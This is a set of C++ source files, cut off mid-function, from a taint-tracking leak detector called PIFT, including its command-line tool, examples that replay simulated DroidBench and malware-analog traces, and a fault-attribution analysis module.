                static_analysis::formatPolicyTable(policies).c_str());
    auto joined = static_analysis::joinPolicies(policies);
    auto derivation = static_analysis::deriveWindowBounds();
    unsigned risky = 0;
    for (const auto &p : policies)
        risky += p.implicit_risk ? 1 : 0;
    std::printf("\njoined device policy: NI=%d NT=%d (%u risky "
                "app(s); global derivation NI=%d NT=%d)\n",
                joined.ni, joined.nt, risky, derivation.derived_ni,
                derivation.derived_nt);
    return joined.ni == derivation.derived_ni &&
                   joined.nt == derivation.derived_nt
               ? 0
               : 1;
}

/**
 * Exercise the faults layer under telemetry so the snapshot and the
 * Chrome trace cover faults.* instruments too: one LGRoot replay
 * through a lossy stream and a flaky taint store.
 */
void
telemetryFaultsPhase(const sim::Trace &trace)
{
    telemetry::Span span("phase:faults", "cli");
    faults::FaultConfig fc;
    fc.seed = 42;
    fc.drop_num = 20'000;        // 2% of each fault class
    fc.dup_num = 20'000;
    fc.insert_fail_num = 20'000;
    fc.forced_evict_num = 20'000;
    faults::FaultInjector inj(fc);
    core::IdealRangeStore store;
    faults::FaultyTaintStore fstore(inj, store);
    core::PiftTracker tracker({13, 3, true}, fstore);
    faults::FaultyStream stream(inj, tracker);
    sim::replay(trace, stream);
    stream.flush();
}

int
cmdTelemetry(int argc, char **argv)
{
    std::string out_path = "BENCH_telemetry.json";
    std::string trace_path;
    std::string jsonl_path;
    for (int i = 2; i < argc; ++i) {
        std::string arg = argv[i];
        if (arg == "--registry") {
            // Default mode; accepted for explicitness (CI uses it).
        } else if (arg == "--out" && i + 1 < argc) {
            out_path = argv[++i];
        } else if (arg == "--trace" && i + 1 < argc) {
            trace_path = argv[++i];
        } else if (arg == "--jsonl" && i + 1 < argc) {
            jsonl_path = argv[++i];
        } else {
            std::fprintf(stderr,
                         "usage: pift_cli telemetry [--registry] "
                         "[--out FILE] [--trace FILE] [--jsonl FILE]\n");
            return 2;
        }
    }

    if (!telemetry::compiledIn())
        std::printf("note: telemetry compiled out "
                    "(PIFT_TELEMETRY=OFF); counters read zero\n");

    // Replay the full 64-app registry. runApp/piftDetectsLeak emit
    // droidbench.* spans and core.* counters as a side effect.
    telemetry::BenchReport report;
    report.bench = "pift_cli_telemetry";
    core::PiftParams params; // the paper's (13, 3)
    sim::Trace lgroot;
    auto t0 = std::chrono::steady_clock::now();
    {
        telemetry::Span span("phase:registry", "cli");
        for (const auto *apps : {&droidbench::droidBenchApps(),
                                 &droidbench::malwareApps()}) {
            for (const auto &entry : *apps) {
                auto run = droidbench::runApp(entry);
                (void)analysis::piftDetectsLeak(run.trace, params);
                report.records_replayed += run.trace.records.size();
                ++report.apps;
                if (entry.name == "malware_lgroot")
                    lgroot = std::move(run.trace);
            }
        }
    }
    telemetryFaultsPhase(lgroot);
    report.wall_ms = std::chrono::duration<double, std::milli>(
                         std::chrono::steady_clock::now() - t0)
                         .count();
    report.events_per_sec = report.wall_ms > 0.0
        ? 1000.0 * static_cast<double>(report.records_replayed) /
            report.wall_ms
        : 0.0;

    // Human-readable snapshot.
    auto snaps = telemetry::snapshot();
    std::printf("%-44s %-10s %s\n", "instrument", "kind", "value");
    for (const auto &s : snaps) {
        switch (s.kind) {
        case telemetry::Kind::Counter:
            std::printf("%-44s %-10s %llu\n", s.name.c_str(),
                        "counter",
                        static_cast<unsigned long long>(s.value));
            break;
        case telemetry::Kind::Gauge:
            std::printf("%-44s %-10s %lld (peak %lld)\n",
                        s.name.c_str(), "gauge",
                        static_cast<long long>(s.gauge_value),
                        static_cast<long long>(s.gauge_peak));
            break;
        case telemetry::Kind::Histogram:
            std::printf("%-44s %-10s count=%llu sum=%llu "
                        "p50=%.1f p95=%.1f p99=%.1f\n",
                        s.name.c_str(), "histogram",
                        static_cast<unsigned long long>(s.count),
                        static_cast<unsigned long long>(s.sum),
                        s.p50, s.p95, s.p99);
            break;
        }
    }
    std::printf("%zu instruments; %zu apps, %llu records in %.1f ms\n",
                snaps.size(), static_cast<size_t>(report.apps),
                static_cast<unsigned long long>(
                    report.records_replayed),
                report.wall_ms);

    // Fold the final counter values into the span stream so the
    // Chrome trace carries the instrument names alongside the spans.
    telemetry::sampleRegistryToTracer();

    if (auto err = telemetry::saveBenchReport(out_path, report);
        !err.empty()) {
        std::fprintf(stderr, "%s\n", err.c_str());
        return 2;
    }
    std::printf("wrote %s\n", out_path.c_str());
    if (!trace_path.empty()) {
        if (auto err = telemetry::saveChromeTrace(trace_path);
            !err.empty()) {
            std::fprintf(stderr, "%s\n", err.c_str());
            return 2;
        }
        std::printf("wrote %s (open at chrome://tracing)\n",
                    trace_path.c_str());
    }
    if (!jsonl_path.empty()) {
        if (auto err = telemetry::saveJsonl(jsonl_path);
            !err.empty()) {
            std::fprintf(stderr, "%s\n", err.c_str());
            return 2;
        }
        std::printf("wrote %s\n", jsonl_path.c_str());
    }
    return 0;
}

/**
 * Run one app through the durable stack, leaving snapshot.pift and
 * wal.pift in @p dir. The final snapshotNow() persists the end-of-run
 * state, so `recover` on the directory reproduces it exactly.
 */
int
cmdSnapshot(int argc, char **argv)
{
    if (argc < 4) {
        std::fprintf(stderr, "usage: pift_cli snapshot <app> <dir> "
                             "[--every N] [NI NT]\n");
        return 2;
    }
    std::string name = argv[2];
    std::string dir = argv[3];
    uint64_t every = 0;
    unsigned ni = 13, nt = 3;
    int pos = 0;
    for (int i = 4; i < argc; ++i) {
        std::string arg = argv[i];
        if (arg == "--every" && i + 1 < argc) {
            every = static_cast<uint64_t>(atoll(argv[++i]));
        } else if (pos == 0) {
            ni = static_cast<unsigned>(atoi(argv[i]));
            ++pos;
        } else {
            nt = static_cast<unsigned>(atoi(argv[i]));
            ++pos;
        }
    }
    const auto *entry = findApp(name);
    if (!entry) {
        std::fprintf(stderr, "unknown app '%s' (try 'list')\n",
                     name.c_str());
        return 2;
    }
    auto run = droidbench::runApp(*entry);

    core::TaintStorage storage(core::TaintStorageParams{});
    core::PiftTracker tracker(core::PiftParams{ni, nt, true}, storage);
    persist::DurableSession session(storage, tracker,
                                    {dir, every, true});
    if (auto st = session.start(); !st.ok()) {
        std::fprintf(stderr, "%s\n", st.message().c_str());
        return 2;
    }
    tracker.setJournal(&session);
    sim::replay(run.trace, tracker);
    if (auto st = session.snapshotNow(); !st.ok()) {
        std::fprintf(stderr, "%s\n", st.message().c_str());
        return 2;
    }
    if (auto st = session.close(); !st.ok()) {
        std::fprintf(stderr, "%s\n", st.message().c_str());
        return 2;
    }
    std::printf("%s: %llu journal records, %llu snapshot(s), "
                "final epoch %llu -> %s\n",
                entry->name.c_str(),
                static_cast<unsigned long long>(
                    session.recordsLogged()),
                static_cast<unsigned long long>(
                    session.snapshotsTaken()),
                static_cast<unsigned long long>(session.epoch()),
                dir.c_str());
    return 0;
}

/**
 * Reconstruct the latest consistent state from a durable directory;
 * with --resume, re-drive the app's trace from the recovered cursor
 * and report the sink verdicts of the completed run.
 */
int
cmdRecover(int argc, char **argv)
{
    if (argc < 3) {
        std::fprintf(stderr,
                     "usage: pift_cli recover <dir> [--resume <app>]\n");
        return 2;
    }
    std::string dir = argv[2];
    std::string resume;
    for (int i = 3; i < argc; ++i) {
        std::string arg = argv[i];
        if (arg == "--resume" && i + 1 < argc) {
            resume = argv[++i];
        } else {
            std::fprintf(stderr, "unknown option '%s'\n", arg.c_str());
            return 2;
        }
    }

    auto rec = persist::recover(dir, core::TaintStorageParams{});
    std::printf("%s\n", persist::formatRecovery(rec).c_str());

    core::TaintStorage storage(rec.state.storage.params);
    core::PiftTracker tracker(core::PiftParams{}, storage);
    persist::restoreInto(rec, storage, tracker);

    if (!resume.empty()) {
        const auto *entry = findApp(resume);
        if (!entry) {
            std::fprintf(stderr, "unknown app '%s' (try 'list')\n",
                         resume.c_str());
            return 2;
        }
        auto run = droidbench::runApp(*entry);
        sim::replayFrom(run.trace, tracker,
                        rec.state.tracker.records_seen,
                        rec.state.tracker.controls_seen);
        std::printf("resumed %s from cursor\n", entry->name.c_str());
    }

    auto final_state = tracker.exportState();
    for (const auto &s : final_state.sinks) {
        const char *verdict =
            s.verdict == core::SinkVerdict::Tainted ? "TAINTED"
            : s.verdict == core::SinkVerdict::MaybeTainted
                ? "maybe-tainted"
                : "clean";
        std::printf("sink %u pid %u [0x%x,0x%x]: %s\n", s.sink_id,
                    s.pid, s.range.start, s.range.end, verdict);
    }
    return rec.corruption_detected ? 1 : 0;
}

/** Census over a fleet of snapshot files (see analysis/offline.hh). */
int
cmdFleet(int argc, char **argv)
{
    if (argc < 3) {
        std::fprintf(stderr,
                     "usage: pift_cli fleet <snapshot.pift...>\n");
        return 2;
    }
    std::vector<std::string> paths;
    for (int i = 2; i < argc; ++i)
        paths.push_back(argv[i]);
    auto rows = analysis::snapshotCensus(paths, exec::defaultJobs());
    std::printf("%s", analysis::formatSnapshotCensus(rows).c_str());
    for (const auto &row : rows)
        if (!row.ok)
            return 1;
    return 0;
}

int
cmdExplain(int argc, char **argv)
{
    if (argc < 3) {
        std::fprintf(stderr,
                     "usage: pift_cli explain <app> [--pid P] "
                     "[--service-queue N] "
                     "[--dot FILE] [--jsonl FILE] [NI NT]\n");
        return 2;
    }
    const auto *entry = findApp(argv[2]);
    if (!entry) {
        std::fprintf(stderr, "unknown app '%s' (try 'list')\n",
                     argv[2]);
        return 2;
    }
    bool pid_given = false;
    ProcId pid = 0;
    std::string dot_path, jsonl_path;
    unsigned ni = 13, nt = 3;
    size_t service_queue = 0;
    int pos = 0;
    for (int i = 3; i < argc; ++i) {
        if (!std::strcmp(argv[i], "--pid") && i + 1 < argc) {
            pid_given = true;
            pid = static_cast<ProcId>(atoi(argv[++i]));
        } else if (!std::strcmp(argv[i], "--service-queue") &&
                   i + 1 < argc) {
            service_queue = parseCount(argv[++i]);
            if (!service_queue) {
                std::fprintf(stderr,
                             "--service-queue needs a positive "
                             "integer, got '%s'\n",
                             argv[i]);
                return 2;
            }
        } else if (!std::strcmp(argv[i], "--dot") && i + 1 < argc) {
            dot_path = argv[++i];
        } else if (!std::strcmp(argv[i], "--jsonl") &&
                   i + 1 < argc) {
            jsonl_path = argv[++i];
        } else if (pos == 0 && atoi(argv[i]) >= 1) {
            ni = static_cast<unsigned>(atoi(argv[i]));
            ++pos;
        } else if (pos == 1 && atoi(argv[i]) >= 1) {
            nt = static_cast<unsigned>(atoi(argv[i]));
            ++pos;
        } else {
            std::fprintf(stderr, "unexpected argument '%s'\n",
                         argv[i]);
            return 2;
        }
    }
    if (!provenance::compiledIn()) {
        std::printf("note: provenance compiled out "
                    "(-DPIFT_PROVENANCE=OFF); nothing to explain\n");
        return 0;
    }

    auto run = droidbench::runApp(*entry);
    std::printf("app: %s (%s, ground truth: %s)\n",
                entry->name.c_str(), entry->category.c_str(),
                entry->leaks ? "leaks" : "benign");

    std::vector<provenance::Explanation> exps;
    if (service_queue > 0) {
        // Deployment-shaped replay: the app's events go through a
        // single-shard bounded-queue TrackingService with no pump
        // between submissions, so a small queue genuinely refuses
        // events. Every refusal degrades the pid and leaves a
        // StreamLoss record; sinks are held back and re-checked
        // after the drain so each verdict reflects the loss, and
        // the explanations below attribute it.
        service::ServiceConfig cfg;
        cfg.shards = 1;
        cfg.queue_capacity = service_queue;
        cfg.session.params = core::PiftParams{ni, nt, true};
        cfg.session.provenance = true;
        cfg.session.ring_capacity = 1u << 19;
        service::TrackingService svc(cfg);
        ProcId spid = pid_given ? pid : 7;
        auto evs = service::eventsFromTrace(run.trace, spid);
        std::vector<service::ServiceEvent> feed;
        feed.reserve(evs.size());
        for (const auto &ev : evs)
            if (ev.kind != service::EventKind::Sink)
                feed.push_back(ev);
        svc.submitMany(feed.data(), feed.size());
        svc.pump();
        auto st = svc.stats();
        std::printf("service: queue=%zu submitted=%llu refused=%llu"
                    " (each refusal -> MaybeTainted + StreamLoss)\n",
                    service_queue,
                    static_cast<unsigned long long>(st.submitted),
                    static_cast<unsigned long long>(st.overflowed));
        for (const auto &ev : evs)
            if (ev.kind == service::EventKind::Sink)
                svc.checkSinkNow(spid, ev.start, ev.end, ev.id);
        const provenance::Recorder *rec = svc.recorderFor(spid);
        if (rec) {
            std::printf("recorder: %llu records (%llu ring-evicted),"
                        " NI=%u NT=%u\n\n",
                        static_cast<unsigned long long>(
                            rec->totalRecorded()),
                        static_cast<unsigned long long>(
                            rec->totalEvicted()),
                        ni, nt);
            exps = provenance::explainPid(*rec, spid);
        }
    } else {
        core::TaintStorage storage(core::TaintStorageParams{});
        // Sized past the largest registry trace so no evidence is
        // ever ring-evicted in an interactive explanation.
        provenance::RecorderParams rp;
        rp.ring_capacity = 1u << 19;
        provenance::Recorder rec(rp);
        core::PiftTracker tracker(core::PiftParams{ni, nt, true},
                                  storage);
        storage.setRecorder(&rec);
        tracker.setRecorder(&rec);
        sim::replayBatched(run.trace, tracker);
        std::printf("recorder: %llu records (%llu ring-evicted), "
                    "NI=%u NT=%u\n\n",
                    static_cast<unsigned long long>(
                        rec.totalRecorded()),
                    static_cast<unsigned long long>(
                        rec.totalEvicted()),
                    ni, nt);
        exps = pid_given ? provenance::explainPid(rec, pid)
                         : provenance::explainAll(rec);
    }
    if (exps.empty()) {
        std::printf("no sink checks recorded%s\n",
                    pid_given ? " for that pid" : "");
    }
    for (const auto &e : exps)
        std::printf("%s\n",
                    provenance::formatExplanation(e).c_str());

    if (!dot_path.empty()) {
        std::ofstream os(dot_path,
                         std::ios::binary | std::ios::trunc);
        if (!os) {
            std::fprintf(stderr, "cannot open '%s'\n",
                         dot_path.c_str());
            return 2;
        }
        provenance::writeFlowGraphDot(os, exps,
                                      entry->name.c_str());
        std::printf("wrote %s (dot -Tsvg to render)\n",
                    dot_path.c_str());
    }
    if (!jsonl_path.empty()) {
        std::ofstream os(jsonl_path,
                         std::ios::binary | std::ios::trunc);
        if (!os) {
            std::fprintf(stderr, "cannot open '%s'\n",
                         jsonl_path.c_str());
            return 2;
        }
        provenance::writeExplanationsJsonl(os, exps);
        std::printf("wrote %s\n", jsonl_path.c_str());
    }
    return 0;
}

void
usage()
{
    std::fprintf(stderr,
                 "usage: pift_cli list\n"
                 "       pift_cli run <app> [NI NT]\n"
                 "       pift_cli sweep <app> [maxNI]\n"
                 "       pift_cli dump <app>\n"
                 "       pift_cli capture <app> <file>\n"
                 "       pift_cli replay <file> [NI NT]\n"
                 "       pift_cli static-check [app]\n"
                 "       pift_cli policy [app]\n"
                 "       pift_cli telemetry [--registry] [--out FILE]"
                 " [--trace FILE] [--jsonl FILE]\n"
                 "       pift_cli explain <app> [--pid P]"
                 " [--service-queue N]"
                 " [--dot FILE] [--jsonl FILE] [NI NT]\n"
                 "       pift_cli snapshot <app> <dir> [--every N]"
                 " [NI NT]\n"
                 "       pift_cli recover <dir> [--resume <app>]\n"
                 "       pift_cli fleet <snapshot.pift...>\n"
                 "global option: --jobs N (exec-pool width; also "
                 "PIFT_JOBS=N)\n");
}

} // namespace

int
main(int argc, char **argv)
{
    argc = exec::stripJobsFlag(argc, argv);
    if (argc < 2) {
        usage();
        return 2;
    }
    std::string cmd = argv[1];
    auto num = [&](int idx, unsigned def) {
        return idx < argc ? static_cast<unsigned>(atoi(argv[idx]))
                          : def;
    };
    if (cmd == "list")
        return cmdList();
    if (cmd == "run" && argc >= 3)
        return cmdRun(argv[2], num(3, 13), num(4, 3));
    if (cmd == "sweep" && argc >= 3)
        return cmdSweep(argv[2], num(3, 25));
    if (cmd == "dump" && argc >= 3)
        return cmdDump(argv[2]);
    if (cmd == "capture" && argc >= 4)
        return cmdCapture(argv[2], argv[3]);
    if (cmd == "replay" && argc >= 3)
        return cmdReplay(argv[2], num(3, 13), num(4, 3));
    if (cmd == "static-check")
        return cmdStaticCheck(argc >= 3 ? argv[2] : "");
    if (cmd == "policy")
        return cmdPolicy(argc >= 3 ? argv[2] : "");
    if (cmd == "telemetry")
        return cmdTelemetry(argc, argv);
    if (cmd == "explain")
        return cmdExplain(argc, argv);
    if (cmd == "snapshot")
        return cmdSnapshot(argc, argv);
    if (cmd == "recover")
        return cmdRecover(argc, argv);
    if (cmd == "fleet")
        return cmdFleet(argc, argv);
    usage();
    return 2;
}
