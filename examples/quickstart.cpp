/**
 * @file
 * Quickstart: the PIFT core on a bare simulated CPU.
 *
 * Builds a tiny ARM-like program that copies a "secret" buffer byte
 * pair by byte pair (the paper's Figure 1 pattern), attaches the PIFT
 * tracker to the CPU's retired-instruction stream, registers the
 * secret's address range as a source, and checks the copy destination
 * as a sink — no Dalvik, no Android, just the tracking engine.
 *
 * Build & run:
 *   cmake -B build -G Ninja && cmake --build build
 *   ./build/examples/quickstart
 */

#include <cstdio>

#include "core/pift_tracker.hh"
#include "core/taint_store.hh"
#include "isa/assembler.hh"
#include "mem/memory.hh"
#include "sim/cpu.hh"

using namespace pift;

int
main()
{
    // A device: memory, an event hub, a CPU publishing into it.
    mem::Memory memory;
    sim::EventHub hub;
    sim::Cpu cpu(memory, hub);

    // PIFT: the tracking heuristic over an ideal (unbounded) range
    // store, with the paper's recommended window NI=13, NT=3.
    core::IdealRangeStore store;
    core::PiftTracker tracker({13, 3, true}, store);
    hub.addSink(&tracker);

    // The secret lives at 0x4000'1000 (16 bytes).
    const Addr secret = 0x4000'1000;
    const Addr copy = 0x4000'2000;
    memory.writeString16(secret, "IMEI-356");

    // Register the source range, as the PIFT Manager would.
    sim::ControlEvent src;
    src.seq = hub.recordCount();
    src.pid = cpu.pid();
    src.kind = sim::ControlKind::RegisterSource;
    src.start = secret;
    src.end = secret + 15;
    hub.publish(src);

    // The Figure 1 copy loop: ldrh/strh, two bytes per iteration.
    isa::Assembler a(0x0000'8000);
    a.movi(0, static_cast<int32_t>(copy));    // dst
    a.movi(1, static_cast<int32_t>(secret));  // src
    a.movi(5, 8);                             // char count
    a.label("loop");
    a.ldrh(6, isa::memOff(1, 2, isa::WriteBack::Post));
    a.strh(6, isa::memOff(0, 2, isa::WriteBack::Post));
    a.subs(5, 5, isa::imm(1));
    a.b("loop", isa::Cond::Ne);
    a.halt();
    cpu.loadProgram(a.finish());

    cpu.setPc(0x0000'8000);
    uint64_t steps = cpu.run();

    // Check the copy destination, as a sink would.
    sim::ControlEvent sink;
    sink.seq = hub.recordCount();
    sink.pid = cpu.pid();
    sink.kind = sim::ControlKind::CheckSink;
    sink.start = copy;
    sink.end = copy + 15;
    sink.id = 1;
    hub.publish(sink);

    std::printf("executed %llu instructions\n",
                static_cast<unsigned long long>(steps));
    std::printf("copy content: \"%s\"\n",
                memory.readString16(copy, 8).c_str());
    std::printf("tainted bytes: %llu in %zu ranges\n",
                static_cast<unsigned long long>(store.bytes()),
                store.rangeCount());
    std::printf("sink verdict: %s\n",
                tracker.anyLeak() ? "LEAK DETECTED" : "clean");
    std::printf("(the copy loop's load-store distance is 1, well "
                "inside the NI=13 tainting window)\n");
    return tracker.anyLeak() ? 0 : 1;
}
