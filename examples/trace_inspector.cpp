/**
 * @file
 * Trace tooling: capture, persist, reload and inspect an execution.
 *
 * Runs the LGRoot malware analog, saves its trace to disk in the
 * binary format, loads it back, prints a short disassembled excerpt
 * around the first source registration, and summarizes the Figure 2
 * metrics — the offline-analysis workflow of the paper's evaluation.
 *
 * Run: ./build/examples/trace_inspector [output.trace]
 */

#include <cstdio>
#include <sstream>

#include "analysis/profiler.hh"
#include "droidbench/app.hh"
#include "sim/trace_io.hh"

using namespace pift;

int
main(int argc, char **argv)
{
    std::string path = argc > 1 ? argv[1] : "/tmp/lgroot.trace";

    const auto &entry = droidbench::malwareApps().front();
    std::printf("capturing %s ...\n", entry.name.c_str());
    auto run = droidbench::runApp(entry);

    if (auto st = sim::saveTrace(path, run.trace); !st.ok()) {
        std::printf("save failed: %s\n", st.message().c_str());
        return 1;
    }
    std::printf("saved %zu records + %zu control events to %s\n",
                run.trace.records.size(), run.trace.controls.size(),
                path.c_str());

    sim::Trace loaded;
    if (auto st = sim::loadTrace(path, loaded); !st.ok()) {
        std::printf("reload failed: %s\n", st.message().c_str());
        return 1;
    }
    std::printf("reloaded %zu records\n", loaded.records.size());

    // Excerpt: 12 records around the first source registration.
    size_t at = loaded.controls.empty()
        ? 0 : static_cast<size_t>(loaded.controls.front().seq);
    size_t lo = at > 4 ? at - 4 : 0;
    sim::Trace excerpt;
    for (size_t i = lo; i < lo + 12 && i < loaded.records.size(); ++i)
        excerpt.records.push_back(loaded.records[i]);
    for (const auto &c : loaded.controls)
        if (c.seq >= lo && c.seq < lo + 12) {
            sim::ControlEvent e = c;
            e.seq -= lo;
            excerpt.controls.push_back(e);
        }
    std::ostringstream os;
    sim::dumpTraceText(os, excerpt);
    std::printf("\nexcerpt around the source registration:\n%s\n",
                os.str().c_str());

    analysis::DistanceProfiler profiler;
    profiler.consume(loaded);
    std::printf("stream statistics (Figure 2 metrics):\n");
    std::printf("  %llu loads, %llu stores in %llu instructions\n",
                static_cast<unsigned long long>(profiler.loadCount()),
                static_cast<unsigned long long>(profiler.storeCount()),
                static_cast<unsigned long long>(
                    profiler.instructionCount()));
    std::printf("  store->last-load: mean %.2f, CDF(5) %.3f, "
                "CDF(10) %.3f\n",
                profiler.storeToLastLoad().mean(),
                profiler.storeToLastLoad().cdf(5),
                profiler.storeToLastLoad().cdf(10));
    std::printf("  stores between loads: mean %.2f\n",
                profiler.storesBetweenLoads().mean());
    std::printf("  load->load distance: mean %.2f\n",
                profiler.loadToLoad().mean());
    return 0;
}
