/**
 * @file
 * Window tuning: capture-once, replay-many parameter exploration.
 *
 * Captures the traces of a handful of benchmark apps once, then
 * replays them under every NI to find each app's minimal detectable
 * window — the workflow behind Figure 11 and the knob a deployment
 * would tune against its accuracy/overhead budget.
 *
 * Run: ./build/examples/window_tuning
 */

#include <cstdio>

#include "analysis/evaluate.hh"
#include "droidbench/app.hh"

using namespace pift;

int
main()
{
    const char *names[] = {
        "DirectLeak_Sms_IMEI",        // no transformation
        "PaperExample_ConcatChain_Sms", // string concatenation
        "FieldChar_Leak_Sms",         // chars through object fields
        "IntToChar_Leak_Http",        // conversion bytecodes
        "GPS_Latitude_Sms",           // float-to-string (ABI helper)
        "ImplicitFlow1_Sms",          // control-dependent copy
        "ImplicitFlow2_Http",         // deeper implicit flow
        "Benign_ConstMessage_Sms",    // no leak at all
    };

    std::printf("%-30s %10s %12s %12s\n", "app", "records",
                "minNI(NT=1)", "minNI(NT=3)");
    for (const char *name : names) {
        for (const auto &entry : droidbench::droidBenchApps()) {
            if (entry.name != name)
                continue;
            auto run = droidbench::runApp(entry);
            unsigned n1 = analysis::minimalNi(run.trace, 1, 25);
            unsigned n3 = analysis::minimalNi(run.trace, 3, 25);
            char b1[16], b3[16];
            std::snprintf(b1, sizeof(b1), n1 > 25 ? "never" : "%u",
                          n1);
            std::snprintf(b3, sizeof(b3), n3 > 25 ? "never" : "%u",
                          n3);
            std::printf("%-30s %10zu %12s %12s\n", name,
                        run.trace.records.size(), b1, b3);
        }
    }

    std::printf("\nAt the paper's operating point (NI=13, NT=3) every "
                "app above except ImplicitFlow2 is caught;\n"
                "the benign app is never flagged at any setting.\n");
    return 0;
}
