#include "analysis/attribution.hh"

#include <cstdio>

#include "analysis/degradation.hh"
#include "core/taint_storage.hh"
#include "exec/thread_pool.hh"
#include "faults/fault_injector.hh"
#include "sim/batch.hh"

namespace pift::analysis
{

namespace
{

/** Tally one app's explanations into its row. */
void
tallyExplanations(const std::vector<provenance::Explanation> &exps,
                  AttributionRow &row)
{
    for (const auto &e : exps) {
        ++row.explained;
        switch (e.verdict) {
          case 1:
            ++row.tainted;
            // "Complete" must mean rooted at a real source, not just
            // a walk that stopped: check the root kind explicitly.
            if (e.complete && !e.chain.empty() &&
                e.chain.front().kind ==
                    provenance::ProvKind::SourceRead) {
                ++row.complete_chains;
            }
            row.longest_chain = std::max(
                row.longest_chain,
                static_cast<unsigned>(e.chain.size()));
            break;
          case 2:
            ++row.maybe;
            if (e.has_cause)
                ++row.cited_causes;
            break;
          default:
            ++row.clean;
            if (!e.chain.empty())
                ++row.clean_with_chain;
            break;
        }
    }
}

provenance::ProvCause
injectedCauseOf(FaultClass c)
{
    switch (c) {
      case FaultClass::Drop:
        return provenance::ProvCause::InjectedDrop;
      case FaultClass::InsertFail:
        return provenance::ProvCause::InjectedInsertFail;
      case FaultClass::ForcedEvict:
        return provenance::ProvCause::InjectedForcedEvict;
    }
    return provenance::ProvCause::Unknown;
}

} // anonymous namespace

const char *
faultClassName(FaultClass c)
{
    switch (c) {
      case FaultClass::Drop:        return "drop";
      case FaultClass::InsertFail:  return "insert-fail";
      case FaultClass::ForcedEvict: return "forced-evict";
    }
    return "?";
}

std::vector<AttributionRow>
attributionDifferential(const std::vector<LabelledTrace> &set,
                        const AttributionConfig &config)
{
    std::vector<AttributionRow> rows(set.size());
    exec::parallelFor(
        set.size(),
        [&](size_t ai) {
            core::TaintStorage backend(core::TaintStorageParams{});
            provenance::Recorder rec(config.recorder);
            core::PiftTracker tracker(config.params, backend);
            backend.setRecorder(&rec);
            tracker.setRecorder(&rec);

            sim::replayBatched(set[ai].trace, tracker);

            AttributionRow &row = rows[ai];
            row.app = set[ai].name;
            row.sinks = static_cast<unsigned>(
                tracker.sinkResults().size());
            row.records = rec.totalRecorded();
            row.evicted = rec.totalEvicted();
            tallyExplanations(provenance::explainAll(rec), row);

            // The contract: every Tainted chain complete, every
            // MaybeTainted cause cited, no Clean chain — and, with no
            // ring pressure, one explanation per sink check. When the
            // recorder is compiled out the differential is vacuous.
            row.ok = !provenance::compiledIn() ||
                (row.tainted == row.complete_chains &&
                 row.maybe == row.cited_causes &&
                 row.clean_with_chain == 0 &&
                 (row.evicted > 0 || row.explained == row.sinks));
        },
        config.jobs);
    return rows;
}

bool
attributionHolds(const std::vector<AttributionRow> &rows)
{
    for (const auto &row : rows)
        if (!row.ok)
            return false;
    return true;
}

std::vector<FaultAttributionRow>
faultAttributionSweep(const std::vector<LabelledTrace> &set,
                      const FaultAttributionConfig &config)
{
    const FaultClass classes[] = {FaultClass::Drop,
                                  FaultClass::InsertFail,
                                  FaultClass::ForcedEvict};
    const size_t nclasses = std::size(classes);
    const size_t apps = set.size();

    struct TaskResult
    {
        unsigned maybe = 0;
        unsigned cited = 0;
        unsigned matches = 0;
        uint64_t faults = 0;
    };
    std::vector<TaskResult> results(nclasses * apps);

    exec::parallelFor(
        nclasses * apps,
        [&](size_t task) {
            size_t ci = task / apps;
            size_t ai = task % apps;

            faults::FaultConfig fc;
            fc.seed = deriveFaultSeed(config.seed, ci, ai);
            switch (classes[ci]) {
              case FaultClass::Drop:
                fc.drop_num = config.rate_num;
                break;
              case FaultClass::InsertFail:
                fc.insert_fail_num = config.rate_num;
                break;
              case FaultClass::ForcedEvict:
                fc.forced_evict_num = config.rate_num;
                break;
            }

            // Default (exact LruSpill) backend: the only degradation
            // that can exist in this replay is the injected class.
            core::TaintStorage backend(core::TaintStorageParams{});
            provenance::Recorder rec(config.recorder);
            faults::FaultInjector injector(fc);
            faults::FaultyTaintStore store(injector, backend);
            core::PiftTracker tracker(config.params, store);
            faults::FaultyStream stream(injector, tracker);
            backend.setRecorder(&rec);
            tracker.setRecorder(&rec);
            injector.setRecorder(&rec);

            sim::replay(set[ai].trace, stream);
            stream.flush();

            TaskResult &res = results[task];
            res.faults = injector.stats().lossFaults();
            const provenance::ProvCause want =
                injectedCauseOf(classes[ci]);
            for (const auto &e : provenance::explainAll(rec)) {
                if (e.verdict != 2)
                    continue;
                ++res.maybe;
                if (!e.has_cause)
                    continue;
                ++res.cited;
                if (e.cause.cause == want)
                    ++res.matches;
            }
        },
        config.jobs);

    // Fixed-order reduction into one row per fault class.
    std::vector<FaultAttributionRow> rows(nclasses);
    for (size_t ci = 0; ci < nclasses; ++ci) {
        FaultAttributionRow &row = rows[ci];
        row.fault_class = classes[ci];
        row.apps = static_cast<unsigned>(apps);
        for (size_t ai = 0; ai < apps; ++ai) {
            const TaskResult &res = results[ci * apps + ai];
            if (res.maybe)
                ++row.affected;
            row.maybe += res.maybe;
            row.cited += res.cited;
            row.cause_matches += res.matches;
            row.faults += res.faults;
        }
        row.ok = !provenance::compiledIn() ||
            (row.cited == row.maybe &&
             row.cause_matches == row.maybe);
    }
    return rows;
}

bool
faultAttributionHolds(const std::vector<FaultAttributionRow> &rows)
{
    for (const auto &row : rows)
        if (!row.ok)
            return false;
    return true;
}

std::string
formatAttributionTable(const std::vector<AttributionRow> &rows)
{
    std::string out;
    char line[220];
    std::snprintf(line, sizeof(line),
                  "%-34s %5s %5s | %7s %8s | %5s %5s | %5s %7s | "
                  "%8s %7s %5s | %s\n",
                  "app", "sinks", "expl", "tainted", "complete",
                  "maybe", "cited", "clean", "w/chain", "records",
                  "evicted", "chain", "contract");
    out += line;
    out += std::string(132, '-') + "\n";
    for (const auto &row : rows) {
        std::snprintf(
            line, sizeof(line),
            "%-34s %5u %5u | %7u %8u | %5u %5u | %5u %7u | "
            "%8llu %7llu %5u | %s\n",
            row.app.c_str(), row.sinks, row.explained, row.tainted,
            row.complete_chains, row.maybe, row.cited_causes,
            row.clean, row.clean_with_chain,
            static_cast<unsigned long long>(row.records),
            static_cast<unsigned long long>(row.evicted),
            row.longest_chain, row.ok ? "ok" : "VIOLATED");
        out += line;
    }
    return out;
}

std::string
formatFaultAttributionTable(
    const std::vector<FaultAttributionRow> &rows)
{
    std::string out;
    char line[200];
    std::snprintf(line, sizeof(line),
                  "%-14s %5s %9s | %6s %6s %8s | %8s | %s\n",
                  "fault class", "apps", "affected", "maybe", "cited",
                  "matched", "injected", "contract");
    out += line;
    out += std::string(88, '-') + "\n";
    for (const auto &row : rows) {
        std::snprintf(
            line, sizeof(line),
            "%-14s %5u %9u | %6u %6u %8u | %8llu | %s\n",
            faultClassName(row.fault_class), row.apps, row.affected,
